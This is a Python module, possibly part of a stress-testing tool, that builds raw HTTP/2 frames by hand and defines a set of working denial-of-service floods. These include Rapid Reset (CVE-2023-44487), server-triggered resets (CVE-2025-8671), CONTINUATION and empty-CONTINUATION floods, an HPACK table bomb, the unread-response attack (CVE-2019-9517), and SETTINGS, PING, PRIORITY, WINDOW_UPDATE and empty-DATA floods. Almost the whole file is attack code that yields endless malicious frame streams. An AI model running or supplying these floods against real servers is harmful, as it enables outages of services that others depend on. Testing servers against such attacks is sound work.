"""HTTP/2 frames written by hand (RFC 9113 §4.1), well and badly meant: what no client library would send.

Owns the bytes only. Header blocks use the static table and literals without indexing (RFC 7541 §6.2.2), so that one block fits
every connection.
"""

from __future__ import annotations

import struct
import time
from collections.abc import Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def get(authority: bytes, path: bytes = b"/", scheme: bytes = b"http") -> bytes:
    """The block of a GET."""
    # :method GET is entry 2, :scheme http 6, https 7; the names of :path and :authority are entries 4 and 1.
    return (
        b"\x82" + (b"\x87" if scheme == b"https" else b"\x86")
        + b"\x04" + bytes((len(path),)) + path + b"\x01" + bytes((len(authority),)) + authority
    )


def opening() -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0)


# Floods: each gives pieces of some 64 KiB for one connection, for ever or until the stream ids are used up.


def rapid_reset(block: bytes) -> Iterator[bytes]:
    """CVE-2023-44487: requests that are taken back at once."""
    stream = 1
    while stream < 2**31 - 2000:
        piece = b""
        for _ in range(500):
            piece += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            piece += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            stream += 2
        yield piece


def made_you_reset(block: bytes) -> Iterator[bytes]:
    """CVE-2025-8671: requests that the server must reset: a window larger than there can be (RFC 9113 §6.9.1)."""
    yield from _reset_by_the_server(block, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)))


def zero_window(block: bytes) -> Iterator[bytes]:
    """The same by a window update of nothing (RFC 9113 §6.9)."""
    yield from _reset_by_the_server(block, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))


def wrong_length(block: bytes) -> Iterator[bytes]:
    """The same by a body that is not what was announced (RFC 9113 §8.1.1)."""
    yield from _reset_by_the_server(b"\x83" + block[1:] + literal(b"content-length", b"5"), lambda stream: frame(DATA, END_STREAM, stream, b"four"), 0)


def _reset_by_the_server(block: bytes, mistake, flags: int = END_STREAM) -> Iterator[bytes]:
    stream = 1
    while stream < 2**31 - 2000:
        piece = b""
        for _ in range(500):
            piece += frame(HEADERS, END_HEADERS | flags, stream, block) + mistake(stream)
            stream += 2
        yield piece


def continuation(block: bytes) -> Iterator[bytes]:
    """A field section without an end."""
    yield frame(HEADERS, 0, 1, block)
    piece = b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%d" % n, b"y" * 100)) for n in range(500))
    while True:
        yield piece


def empty_continuation(block: bytes) -> Iterator[bytes]:
    """The same, of frames that hold nothing."""
    yield frame(HEADERS, 0, 1, block)
    while True:
        yield frame(CONTINUATION, 0, 1) * 7000


def settings(block: bytes) -> Iterator[bytes]:
    """Each wants an acknowledgement."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 4000


def ping(block: bytes) -> Iterator[bytes]:
    """Each wants an answer."""
    while True:
        yield frame(PING, 0, 0, b"bandsaws") * 3800


def priority(block: bytes) -> Iterator[bytes]:
    """Of streams that are not there."""
    while True:
        yield b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) for stream in range(1, 8001, 2))


def window_update(block: bytes) -> Iterator[bytes]:
    """By one byte each, until the window would overflow."""
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 5000


def empty_data(block: bytes) -> Iterator[bytes]:
    """A body of nothing that does not end."""
    post = b"\x83" + block[1:]
    yield frame(HEADERS, END_HEADERS, 1, post)
    while True:
        yield frame(DATA, 0, 1) * 7000


def bomb(block: bytes) -> Iterator[bytes]:
    """A field of 4,000 bytes into the table, and then that one again and again: a byte each (RFC 7541 §6.1)."""
    large = b"\x40\x01x\x7f" + varint(4000 - 127) + b"v" * 4000
    stream = 1
    while stream < 2**31 - 2000:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block + (large if stream == 1 else b"") + b"\xbe" * 10_000)
        stream += 2


def varint(rest: int) -> bytes:
    """What of a number does not fit its prefix (RFC 7541 §5.1)."""
    out = b""
    while rest >= 128:
        out += bytes((rest & 127 | 128,))
        rest >>= 7
    return out + bytes((rest,))


def unread(block: bytes) -> Iterator[bytes]:
    """CVE-2019-9517: windows wide open for a hundred large answers, and a socket that takes nothing. A few pings tell the end."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535))
    block = block.replace(b"\x04\x01/", b"\x04\x08/large/5")
    yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 201, 2))
    while True:
        time.sleep(0.5)
        yield frame(PING, 0, 0, b"bandsaws")


FLOODS = {
    "rapid reset": rapid_reset, "server-made resets": made_you_reset, "windows of nothing": zero_window,
    "wrong lengths": wrong_length, "CONTINUATION": continuation, "HPACK bomb": bomb, "unread answers": unread,
    "empty CONTINUATION": empty_continuation, "SETTINGS": settings, "PING": ping, "PRIORITY": priority,
    "WINDOW_UPDATE": window_update, "empty DATA": empty_data,
}
# Floods whose client never reads.
DEAF = {unread}
